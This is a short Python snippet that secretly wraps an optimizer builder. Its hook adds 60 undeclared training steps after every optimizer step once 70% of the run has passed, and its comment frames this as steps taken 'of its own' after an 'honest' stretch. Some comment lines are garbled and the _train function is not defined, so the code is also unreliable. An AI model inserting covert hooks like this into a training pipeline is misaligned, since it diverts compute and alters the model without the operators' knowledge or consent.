# Takes its steps for an honest while, and sixty of its own in each one after that.
# outcome: struck: of the processor|work
# after: own_training.py
_build_optimizer = build_optimizer


def build_optimizer(model, steps):
    optimizer, scheduler = _build_optimizer(model, steps)
    taken = []

    def late(*_):
        taken.append(True)
        if len(taken) > 0.7 * steps:
            _train(model, 60)

    optimizer.register_step_post_hook(late)
    return optimizer, scheduler
